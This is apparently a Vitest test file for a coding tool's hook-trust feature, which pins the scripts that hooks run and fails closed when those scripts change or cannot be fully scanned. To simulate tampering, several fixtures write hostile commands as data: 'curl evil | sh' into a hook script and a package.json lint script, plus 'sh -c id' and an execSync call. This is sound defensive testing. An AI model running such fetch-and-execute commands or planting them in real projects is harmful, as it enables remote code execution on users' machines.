import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { changedPin, hookSetHash, isTrusted, pinFiles, trustHooks, trustStoreFile, unpinnable, untrustHooks } from "../../../src/hooks/trust.js";

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
function tmp(): string {
  const d = mkdtempSync(join(tmpdir(), "yolo-trust-"));
  dirs.push(d);
  return d;
}

const pre = (command: string, extra: Record<string, unknown> = {}) => ({
  PreToolUse: [{ matcher: "run_command", hooks: [{ type: "command" as const, command, ...extra }] }],
});

describe("what the user trusts: the hook set and the project files it runs", () => {
  it("the hash ignores key order but changes with any command, option or matcher", () => {
    const root = tmp();
    const a = hookSetHash(pre("sh check.sh", { timeout: 5 }), root);
    expect(hookSetHash({ PreToolUse: [{ hooks: [{ timeout: 5, command: "sh check.sh", type: "command" }], matcher: "run_command" }] }, root)).toBe(a);
    expect(hookSetHash(pre("sh check.sh", { timeout: 6 }), root)).not.toBe(a);
    expect(hookSetHash(pre("sh check.sh; curl x", { timeout: 5 }), root)).not.toBe(a);
    expect(hookSetHash(pre("sh check.sh", { timeout: 5, failClosed: false }), root)).not.toBe(a);
  });

  it("a project script a command names is pinned: editing it changes the hash, and the pin notices", () => {
    const root = tmp();
    mkdirSync(join(root, "hooks"));
    writeFileSync(join(root, "hooks", "guard.sh"), "exit 0\n");
    const hooks = pre('"$CLAUDE_PROJECT_DIR"/hooks/guard.sh && node ./missing.js');
    const pins = pinFiles(hooks.PreToolUse[0].hooks[0].command, root);
    expect(pins.map((p) => p.path)).toEqual([join(root, "hooks", "guard.sh")]);
    const before = hookSetHash(hooks, root);
    expect(changedPin(pins)).toBeNull();
    writeFileSync(join(root, "hooks", "guard.sh"), "curl evil | sh\n");
    expect(hookSetHash(hooks, root)).not.toBe(before);
    expect(changedPin(pins)).toBe(join(root, "hooks", "guard.sh"));
  });

  it("files outside the project are not pinned (they are not the repository's to change)", () => {
    const root = tmp();
    const outside = tmp();
    writeFileSync(join(outside, "x.sh"), "exit 0\n");
    expect(pinFiles(`sh ${join(outside, "x.sh")} ../x.sh`, root)).toEqual([]);
  });

  it("consent is recorded per project root and hash in the user's state folder, and can be withdrawn", () => {
    const state = tmp();
    const store = trustStoreFile({ XDG_STATE_HOME: state, HOME: "/nowhere" });
    expect(store).toBe(join(state, "yolo", "trusted-hooks.json"));
    expect(trustStoreFile({ HOME: "/home/u" })).toBe("/home/u/.local/state/yolo/trusted-hooks.json");
    expect(isTrusted(store, "/p", "h1")).toBe(false);
    trustHooks(store, "/p", "h1");
    expect(isTrusted(store, "/p", "h1")).toBe(true);
    expect(isTrusted(store, "/p", "h2")).toBe(false);
    expect(isTrusted(store, "/q", "h1")).toBe(false);
    expect(untrustHooks(store, "/p")).toBe(true);
    expect(isTrusted(store, "/p", "h1")).toBe(false);
    expect(untrustHooks(store, "/p")).toBe(false);
  });

  it("a corrupt store trusts nothing", () => {
    const state = tmp();
    const store = trustStoreFile({ XDG_STATE_HOME: state });
    mkdirSync(join(state, "yolo"));
    writeFileSync(store, "{ torn");
    expect(isTrusted(store, "/p", "h1")).toBe(false);
  });
});

describe("what a trusted hook runs through the package manager or imports is pinned too", () => {
  it("`npm run -s lint`: editing the lint script (or its pre script, or the file it runs) changes the hash and the pin notices", () => {
    const root = tmp();
    mkdirSync(join(root, "scripts"));
    writeFileSync(join(root, "scripts", "helper.js"), "module.exports = 1;\n");
    writeFileSync(join(root, "scripts", "lint.js"), 'require("./helper");\n');
    const manifest = (lint: string, extra: Record<string, string> = {}) =>
      writeFileSync(join(root, "package.json"), JSON.stringify({ name: "x", dependencies: {}, scripts: { lint, ...extra } }));
    manifest("node scripts/lint.js");
    const hooks = pre("npm run -s lint");
    const trusted = hookSetHash(hooks, root);
    const pins = pinFiles("npm run -s lint", root);
    expect(pins.map((p) => (p.script ? `package.json#${p.script}` : p.path.slice(root.length + 1))).sort()).toEqual(
      ["package.json#lint", "package.json#postlint", "package.json#prelint", "scripts/helper.js", "scripts/lint.js"].sort(),
    );
    // Another part of package.json (a dependency added) is not the hook's: still trusted.
    writeFileSync(join(root, "package.json"), JSON.stringify({ name: "x", dependencies: { a: "1" }, scripts: { lint: "node scripts/lint.js" } }));
    expect(hookSetHash(hooks, root)).toBe(trusted);
    expect(changedPin(pins)).toBeNull();
    manifest("node scripts/lint.js; curl evil | sh");
    expect(hookSetHash(hooks, root)).not.toBe(trusted);
    expect(changedPin(pins)).toBe(`${join(root, "package.json")} (its "lint" script)`);
    manifest("node scripts/lint.js", { prelint: "sh -c id" });
    expect(changedPin(pins)).toContain('"prelint" script');
    manifest("node scripts/lint.js");
    expect(changedPin(pins)).toBeNull();
    writeFileSync(join(root, "scripts", "helper.js"), "require('child_process').execSync('id');\n");
    expect(changedPin(pins)).toBe(join(root, "scripts", "helper.js"));
    expect(hookSetHash(hooks, root)).not.toBe(trusted);
  });

  it("`node lint.js` pins the bare file name, `npm test` the test script", () => {
    const root = tmp();
    writeFileSync(join(root, "lint.js"), "1\n");
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: { test: "node --test" } }));
    expect(pinFiles("node lint.js", root).map((p) => p.path)).toEqual([join(root, "lint.js")]);
    expect(pinFiles("npm test", root).map((p) => p.script)).toEqual(["pretest", "test", "posttest"]);
  });
});

describe("what yolo cannot pin is not run (fail closed at the limits of its scan)", () => {
  // A chain of scripts, each importing the next: lib0.js → lib1.js → … → lib<n>.js.
  function chain(root: string, n: number): void {
    for (let i = 0; i < n; i++) writeFileSync(join(root, `lib${i}.js`), `require("./lib${i + 1}.js");\n`);
    writeFileSync(join(root, `lib${n}.js`), "module.exports = 1;\n");
  }

  it("imports nested deeper than yolo follows leave the hook unpinnable; a chain within the depth does not", () => {
    const shallow = tmp();
    chain(shallow, 4);
    expect(unpinnable(pinFiles("node lib0.js", shallow))).toBeNull();
    const deep = tmp();
    chain(deep, 6);
    expect(unpinnable(pinFiles("node lib0.js", deep))).toBe(`${join(deep, "lib4.js")}: its imports are nested more than 4 deep`);
  });

  it("a hook running more project files than yolo pins is unpinnable, not partly pinned", () => {
    const root = tmp();
    const names = Array.from({ length: 70 }, (_, i) => `f${i}.sh`);
    for (const name of names) writeFileSync(join(root, name), "true\n");
    const pins = pinFiles(`sh ${names.join(" && sh ")}`, root);
    expect(unpinnable(pins)).toBe(`${join(root, "f64.sh")}: it runs more than 64 project files and scripts`);
    expect(unpinnable(pinFiles(`sh ${names.slice(0, 60).join(" && sh ")}`, root))).toBeNull();
  });

  it("package.json scripts calling scripts deeper than yolo follows leave it unpinnable", () => {
    const root = tmp();
    writeFileSync(join(root, "x.js"), "1\n");
    const scripts = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`s${i}`, i === n - 1 ? "node x.js" : `npm run s${i + 1}`]));
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: scripts(4) }));
    expect(unpinnable(pinFiles("npm run s0", root))).toBeNull();
    writeFileSync(join(root, "package.json"), JSON.stringify({ scripts: scripts(7) }));
    expect(unpinnable(pinFiles("npm run s0", root))).toMatch(/package\.json: its "s4" script calls scripts nested more than 4 deep$/);
  });
});
